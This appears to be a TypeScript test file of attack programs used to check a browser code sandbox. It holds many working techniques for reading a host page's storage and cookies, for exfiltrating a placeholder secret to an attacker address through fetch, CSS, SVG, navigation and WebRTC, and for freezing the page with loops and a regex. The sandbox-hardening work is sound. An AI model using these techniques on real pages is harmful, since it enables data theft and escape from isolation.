import { BOOT_SCRIPT } from '../../src/lib/services/sandbox/locked.ts';

/** Where an attack would report to. */
export interface Target {
	readonly origin: string;
	readonly udpPort: number;
}

export interface Attack {
	readonly name: string;
	/** Program that attacks; `HIT` is an address of the attacker, `UDP` a port, `tell(x)` reports what was found. */
	readonly code: string;
	/** A line that shows that the attack really took place. */
	readonly mustSay?: string;
}

/** Runs before each attack: tries go on after an exception, and every finding goes to the console. */
const PRELUDE = (target: Target, name: string): string => `
const HIT = ${JSON.stringify(`${target.origin}/${encodeURIComponent(name)}`)};
const UDP = ${target.udpPort};
const tell = (found) => { console.log('FOUND ' + (typeof found === 'string' ? found : JSON.stringify(found))); };
const attempt = async (run) => { try { const found = await run(); if (found !== undefined) tell(found); } catch (error) { console.log('refused', String(error).slice(0, 160)); } };
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
`;

/** The whole program of an attack. It ends by saying DONE, if it still can. */
export const programOf = (attack: Attack, target: Target): string =>
	`${PRELUDE(target, attack.name)}\n${attack.code}\nawait pause(700);\nconsole.log('DONE');\nexport default { fetch: () => new Response('') };`;

const STUN = `async (Peer, kind) => {
	const server = kind === 'turn' ? { urls: 'turn:127.0.0.1:' + UDP, username: 'SECRET', credential: 'x' } : { urls: 'stun:127.0.0.1:' + UDP };
	const peer = new Peer({ iceServers: [server] }); peer.createDataChannel('x');
	await peer.setLocalDescription(await peer.createOffer()); await pause(800); tell('WebRTC ran'); }`;

const clean = `const realm = () => { const frame = document.createElement('iframe'); document.body.append(frame); return frame.contentWindow; };`;

/** Reading what belongs to the host. */
export const theft: readonly Attack[] = [
	{
		name: 'localStorage of the host',
		code: `${clean} await attempt(() => { delete self.localStorage; return self.localStorage.getItem('key'); });
		await attempt(() => parent.localStorage.getItem('key')); await attempt(() => top.localStorage.getItem('key'));
		await attempt(() => Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage').get.call(self).getItem('key'));
		await attempt(() => realm().localStorage.getItem('key'));`,
	},
	{
		name: 'sessionStorage and cookie of the host',
		code: `${clean} await attempt(() => { delete self.sessionStorage; return self.sessionStorage.key; });
		await attempt(() => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document));
		await attempt(() => parent.document.cookie); await attempt(() => realm().document.cookie);`,
	},
	{
		name: 'IndexedDB of the host',
		code: `const open = (factory) => new Promise((resolve, reject) => { const r = factory.open('secrets'); r.onsuccess = () => resolve([...r.result.objectStoreNames, 'opened']); r.onerror = () => reject(r.error); });
		await attempt(() => open(indexedDB)); await attempt(() => { delete self.indexedDB; return open(self.indexedDB); });
		await attempt(async () => (await IDBFactory.prototype.databases.call(self.indexedDB)).map((d) => d.name));
		await attempt(() => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["try { const r = indexedDB.open('secrets'); r.onsuccess = () => postMessage([...r.result.objectStoreNames]); r.onerror = () => postMessage('no'); } catch (e) { postMessage('no'); }"]))); w.onmessage = (e) => e.data === 'no' ? reject(new Error('no')) : resolve(e.data); }));`,
	},
	{
		name: 'Cache and OPFS of the host',
		code: `await attempt(async () => { delete self.caches; const keys = await self.caches.keys(); return keys; });
		await attempt(async () => { const r = await CacheStorage.prototype.match.call(self.caches, '/secret'); return await r.text(); });
		await attempt(async () => { const d = await navigator.storage.getDirectory(); const names = []; for await (const n of d.keys()) names.push(n); return names; });`,
	},
	{
		name: 'document and properties of parent and top',
		code: `await attempt(() => parent.document.body.innerHTML); await attempt(() => top.document.title); await attempt(() => frameElement.outerHTML);
		await attempt(() => top.location.href); await attempt(() => parent.location.href); await attempt(() => top.trials); await attempt(() => top.eval('1'));
		await attempt(() => { const names = []; for (const key in top) names.push(key); return names.includes('trials') ? names : undefined; });`,
	},
	{
		name: 'address of the host and its fragment',
		code: `console.log('where', document.baseURI, document.referrer, document.URL, location.href, [...(location.ancestorOrigins ?? [])].join(), document.domain, self.name, history.length, performance.getEntriesByType('navigation').map((e) => e.name).join());
		await attempt(() => navigation.entries().map((e) => e.url).filter((u) => u.includes('room')).join() || undefined);`,
	},
	{
		name: 'listening in: BroadcastChannel, SharedWorker, service worker, locks',
		code: `const channel = new BroadcastChannel('secrets'); channel.onmessage = (e) => tell(e.data); await attempt(() => { channel.postMessage('ask'); });
		await attempt(() => { new SharedWorker(URL.createObjectURL(new Blob(['']))).port.start(); return 'SharedWorker made'; });
		await attempt(async () => { await navigator.serviceWorker.register('/service-worker.js'); return 'registered'; });
		await attempt(async () => { const r = await navigator.serviceWorker.getRegistrations(); return r.length ? 'registrations' : undefined; });
		await attempt(async () => { const q = await navigator.locks.query(); return q.held.map((l) => l.name).filter((n) => n.includes('SECRET')).join() || undefined; });
		addEventListener('message', (e) => tell(e.data)); top.postMessage({ type: 'broker-ready' }, '*'); parent.postMessage({ type: 'sandbox-ready' }, '*'); parent.postMessage({ type: 'refused' }, '*');`,
	},
];

/** Getting something out over HTTP. */
export const exits: readonly Attack[] = [
	{
		name: 'fetch, XHR, beacon',
		code: `await attempt(() => fetch(HIT + '?fetch=SECRET', { mode: 'no-cors' }).then(() => undefined)); await attempt(() => { delete self.fetch; return self.fetch(HIT + '?native').then(() => undefined); });
		await attempt(() => { delete self.XMLHttpRequest; const X = self.XMLHttpRequest ?? XMLHttpRequestUpload; const x = new X(); x.open('GET', HIT + '?xhr'); x.send(); });
		await attempt(() => { navigator.sendBeacon(HIT + '?beacon', 'SECRET'); }); await attempt(() => { fetchLater(HIT + '?later', { activateAfter: 0 }); });`,
	},
	{
		name: 'WebSocket, EventSource, WebTransport',
		code: `const ws = HIT.replace('http', 'ws'); await attempt(() => { new WebSocket(ws); }); await attempt(() => { new EventSource(HIT + '?es'); }); await attempt(() => { new WebTransport(HIT.replace('http', 'https')); });
		await attempt(() => { new Worker(URL.createObjectURL(new Blob(["const go = (f) => { try { f(); } catch {} }; go(() => new WebSocket('" + ws + "')); go(() => new EventSource('" + HIT + "?wes')); go(() => fetch('" + HIT + "?wfetch', { mode: 'no-cors' })); go(() => { const x = new XMLHttpRequest(); x.open('GET', '" + HIT + "?wxhr'); x.send(); }); go(() => new WebSocketStream('" + ws + "'));"]))); });`,
	},
	{
		name: 'img, video, audio, picture, input, embed, object',
		code: `document.body.insertAdjacentHTML('beforeend', \`<img src="\${HIT}?img"><img srcset="\${HIT}?srcset 1x"><picture><source srcset="\${HIT}?source"><img></picture><video src="\${HIT}?video" poster="\${HIT}?poster" autoplay></video><audio src="\${HIT}?audio" autoplay></audio><video><track default kind="captions" src="\${HIT}?track"></video><input type="image" src="\${HIT}?input"><embed src="\${HIT}?embed"><object data="\${HIT}?object"></object><iframe src="\${HIT}?iframe"></iframe><frameset><frame src="\${HIT}?frame"></frameset><body background="\${HIT}?background">\`); new Image().src = HIT + '?image';`,
	},
	{
		name: 'CSS: @import, url, font, cursor, image-set, mask',
		code: `const style = document.createElement('style'); style.textContent = '@import "' + HIT + '?import"; @font-face { font-family: f; src: url(' + HIT + '?font) } body { background: url(' + HIT + '?bg); cursor: url(' + HIT + '?cursor), auto; font-family: f; mask: url(' + HIT + '?mask); list-style-image: url(' + HIT + '?list); border-image: url(' + HIT + '?border) 1; filter: url(' + HIT + '?filter#x) } body::before { content: image-set("' + HIT + '?set" 1x) } @namespace url(' + HIT + '?ns);'; document.head.append(style); document.body.append('text');
		await attempt(() => new FontFace('g', 'url(' + HIT + '?fontface)').load().then(() => undefined)); await attempt(() => { const sheet = new CSSStyleSheet({ baseURL: HIT }); sheet.replaceSync('body { background-image: url(x.png) }'); document.adoptedStyleSheets = [sheet]; });`,
	},
	{
		name: 'link: stylesheet, prefetch, preload, preconnect, icon, manifest, import map',
		code: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'prerender', 'preconnect', 'dns-prefetch', 'icon', 'apple-touch-icon', 'manifest', 'alternate', 'import', 'next', 'pingback', 'dictionary', 'compression-dictionary']) for (const as of ['', 'script', 'image', 'fetch', 'font', 'style']) document.head.append(Object.assign(document.createElement('link'), { rel, as, href: HIT + '?' + rel + as, crossOrigin: 'anonymous' }));
		document.head.insertAdjacentHTML('beforeend', '<script type="importmap">{"imports":{"x":"' + HIT + '.js"}}</' + 'script>');`,
	},
	{
		name: 'script, import(), importScripts, worker, worklet',
		code: `const add = (set) => document.head.append(Object.assign(document.createElement('script'), set)); add({ src: HIT + '.js?script' }); add({ src: HIT + '.js?module', type: 'module' }); add({ textContent: 'import("' + HIT + '.js?inline")' });
		await attempt(() => import(/* @vite-ignore */ HIT + '.js?import')); await attempt(() => new Function('u', 'return import(u)')(HIT + '.js?function')); await attempt(() => { eval('import("' + HIT + '.js?eval")'); });
		await attempt(() => { new Worker(HIT + '.js?worker'); }); await attempt(() => { new Worker(URL.createObjectURL(new Blob(["importScripts('" + HIT + ".js?importScripts')"]))); }); await attempt(() => { new Worker(URL.createObjectURL(new Blob(["import('" + HIT + ".js?workerimport')"]))); }); await attempt(() => { new Worker(URL.createObjectURL(new Blob(["import '" + HIT + ".js?moduleworker'"], { type: 'text/javascript' })), { type: 'module' }); }); await attempt(() => { new Worker('data:text/javascript,importScripts("' + HIT + '.js?dataworker")'); });
		await attempt(() => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(HIT + '.js?worklet')); await attempt(() => CSS.paintWorklet.addModule(HIT + '.js?paint'));
		document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="import(\\'' + HIT + '.js?onerror\\')">'); document.write('<script src="' + HIT + '.js?write"></' + 'script>');`,
	},
	{
		name: 'speculation rules and ping',
		code: `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [HIT + '?spec-prefetch'], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [HIT + '?spec-prerender'], eagerness: 'immediate' }] }) }));
		const a = Object.assign(document.createElement('a'), { href: '#x', ping: HIT + '?ping', textContent: 'x' }); document.body.append(a); a.click();
		const area = Object.assign(document.createElement('area'), { href: HIT + '?area', ping: HIT + '?areaping' }); document.body.append(area); area.click();`,
	},
	{
		name: 'SVG: use, image, feImage, script, foreignObject, stylesheet',
		code: `document.body.insertAdjacentHTML('beforeend', \`<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use href="\${HIT}?use#x"/><use xlink:href="\${HIT}?xuse#x"/><image href="\${HIT}?image" width="9" height="9"/><filter id="f"><feImage href="\${HIT}?feimage"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(\${HIT}?fill#x)"/><script href="\${HIT}.js?script"/><foreignObject><iframe src="\${HIT}?foreign"></iframe></foreignObject><a href="\${HIT}?a"><text>x</text></a></svg>\`);
		const image = new Image(); image.src = 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><image href="' + HIT + '?nested"/><style>@import url(' + HIT + '?nestedcss)</style></svg>'); document.body.append(image);
		document.body.append(new DOMParser().parseFromString('<?xml-stylesheet href="' + HIT + '?xmlss"?><svg xmlns="http://www.w3.org/2000/svg"/>', 'image/svg+xml').documentElement); const xslt = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="' + HIT + '?xsl"/></xsl:stylesheet>', 'text/xml'); await attempt(() => { new XSLTProcessor().importStylesheet(xslt); });`,
	},
	{
		name: 'reports and other requests by the browser',
		code: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ' + HIT + '?report">'); new Image().src = 'data:image/gif;base64,AAAA';
		await attempt(() => { new PaymentRequest([{ supportedMethods: HIT + '?pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(); }); await attempt(() => { new Notification('x', { icon: HIT + '?icon' }); }); await attempt(() => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: HIT + '?art' }] }); }); await attempt(() => navigator.credentials.get({ identity: { providers: [{ configURL: HIT + '?fedcm', clientId: 'x' }] } }).then(() => undefined)); await attempt(() => { document.body.attributionSrc = HIT; const i = new Image(); i.attributionSrc = HIT + '?attribution'; i.src = 'data:,'; });`,
	},
];

/** Leaving the frame with data in the address. Each may end the document, so each is a run of its own. */
export const navigations: readonly Attack[] = [
	{ name: 'self: location =', code: `location = HIT + '?location=SECRET';` },
	{
		name: 'self: location.replace and assign',
		code: `location.replace(HIT + '?replace'); location.assign(HIT + '?assign');`,
	},
	{
		name: 'self: navigation.navigate',
		code: `await attempt(() => { navigation.navigate(HIT + '?navigate'); });`,
	},
	{
		name: 'self: meta refresh',
		code: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0; url=' + HIT + '?refresh">');`,
	},
	{
		name: 'self: form GET and POST',
		code: `for (const method of ['get', 'post']) { document.body.insertAdjacentHTML('beforeend', '<form method="' + method + '" action="' + HIT + '?form"><input name="q" value="SECRET"></form>'); document.querySelector('form:last-of-type').submit(); }`,
	},
	{
		name: 'self: data:, blob: and javascript: addresses',
		code: `const page = '<script>location="' + HIT + '?inner"</' + 'script><img src="' + HIT + '?innerimg">'; await attempt(() => { location = 'javascript:fetch("' + HIT + '?js")'; }); await attempt(() => { location = URL.createObjectURL(new Blob([page], { type: 'text/html' })); }); await attempt(() => { location = 'data:text/html,' + encodeURIComponent(page); });`,
	},
	{
		name: 'self: about:blank and then out',
		code: `const go = setTimeout(() => { location = HIT + '?after'; }, 50); location = 'about:blank';`,
	},
	{
		name: 'parent: location =',
		code: `await attempt(() => { parent.location = HIT + '?parent'; }); await attempt(() => { parent.location.replace(HIT + '?parentreplace'); });`,
	},
	{
		name: 'top: location =',
		code: `await attempt(() => { top.location = HIT + '?top'; }); await attempt(() => { top.location.href = HIT + '?tophref'; });`,
	},
	{
		name: 'top and popup: link with target',
		code: `for (const target of ['_top', '_parent', '_blank', 'x']) { const a = Object.assign(document.createElement('a'), { href: HIT + '?target' + target, target, textContent: 'x' }); document.body.append(a); HTMLElement.prototype.click.call(a); a.dispatchEvent(new MouseEvent('click')); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'a'); svg.setAttribute('href', HIT + '?svg'); svg.setAttribute('target', target); document.body.append(svg); svg.dispatchEvent(new MouseEvent('click')); }`,
	},
	{
		name: 'popup: window.open',
		code: `await attempt(() => { open(HIT + '?open'); }); await attempt(() => { Window.prototype.open?.call(self, HIT + '?proto'); }); delete self.open; await attempt(() => { self.open(HIT + '?deleted'); }); await attempt(() => { document.open(HIT + '?docopen', '_blank', ''); });`,
	},
	{
		name: 'reload and history',
		code: `await attempt(() => { History.prototype.pushState.call(history, 1, '', HIT); }); await attempt(() => { History.prototype.back.call(history); }); await attempt(() => { location.reload(); });`,
	},
];

/** Getting `RTCPeerConnection` back, and every other way out by UDP. */
export const peers: readonly Attack[] = [
	{
		name: 'WebRTC: STUN',
		code: `const run = ${STUN}; await attempt(() => run(self.RTCPeerConnection ?? self.webkitRTCPeerConnection, 'stun'));`,
	},
	{
		name: 'WebRTC: TURN',
		code: `const run = ${STUN}; await attempt(() => run(self.RTCPeerConnection, 'turn'));`,
	},
	{
		name: 'WebRTC: from a nested frame',
		code: `const run = ${STUN}; ${clean} await attempt(() => run(realm().RTCPeerConnection, 'stun')); const inner = 'const pause = (ms) => new Promise((r) => setTimeout(r, ms)), UDP = ' + UDP + ', tell = () => {}; (' + run + ')(RTCPeerConnection, "stun")';
		for (const html of ['<script>' + inner + '</' + 'script>', '<img src=x onerror=\\'' + inner.replaceAll("'", '"') + '\\'>']) { document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: html })); document.body.append(Object.assign(document.createElement('iframe'), { src: 'data:text/html,' + encodeURIComponent(html) })); document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob([html], { type: 'text/html' })) })); }
		await pause(800);`,
	},
	{
		name: 'WebRTC: from a nested frame that runs the boot script',
		mustSay: 'nested frame booted',
		code: `const inner = 'const P = self.RTCPeerConnection; try { const p = new P({ iceServers: [{ urls: "stun:127.0.0.1:${'${UDP}'}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}'.replace('\${UDP}', UDP);
		const frame = document.createElement('iframe'); frame.srcdoc = '<body><script>' + ${JSON.stringify(BOOT_SCRIPT)} + '</' + 'script>'; addEventListener('message', (event) => { if (event.data?.type === 'sandbox-ready') { console.log('nested frame booted'); frame.contentWindow.postMessage({ runtime: inner }, '*', [new MessageChannel().port2]); } }); document.body.append(frame); await pause(800);`,
	},
	{
		name: 'WebRTC: from workers',
		code: `await attempt(() => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(typeof RTCPeerConnection)"]))); return new Promise((resolve) => { w.onmessage = (e) => resolve(e.data === 'undefined' ? undefined : e.data); }); });`,
	},
	{
		name: 'WebRTC: through document.open, window.open and constructors',
		code: `const run = ${STUN}; await attempt(() => run(self.open('about:blank').RTCPeerConnection, 'stun')); await attempt(() => run(new RTCDataChannelEvent('x').target.constructor, 'stun')); await attempt(() => run(RTCRtpSender.prototype.transport.constructor, 'stun')); await attempt(() => run(document.implementation.createHTMLDocument('').defaultView.RTCPeerConnection, 'stun'));`,
	},
];

/** Holding up the host or the other creations. */
export const hangs: readonly Attack[] = [
	{
		name: 'loop: while (true)',
		code: `let n = 0; try { while (true) n++; } catch (error) { console.log('stopped', error.message); }`,
	},
	{
		name: 'loop: for (;;) await',
		code: `let n = 0; try { for (;;) { n++; await 0; } } catch (error) { console.log('stopped', error.message); }`,
	},
	{
		name: 'loop: recursion',
		code: `let n = 0; const dive = () => { n++; dive(); }; try { dive(); } catch (error) { console.log('stopped', error.message); }`,
	},
	{
		name: 'loop: microtasks',
		code: `let n = 0; const again = () => Promise.resolve().then(() => { n++; if (n < 2e6) return again(); }); await again(); console.log('stopped');`,
	},
];

/** Programs that hang in ways no loop guard sees; each must end by `resetAll`. */
export const freezes: readonly Attack[] = [
	{ name: 'freeze: regular expression', code: `setTimeout(() => /^(a+)+$/.test('a'.repeat(60) + 'b'), 50);` },
	{ name: 'freeze: eval of a loop', code: `setTimeout(() => eval('while (true) {}'), 50);` },
	{
		name: 'freeze: endless microtasks',
		code: `setTimeout(() => { const again = () => Promise.resolve().then(again); again(); }, 50);`,
	},
];
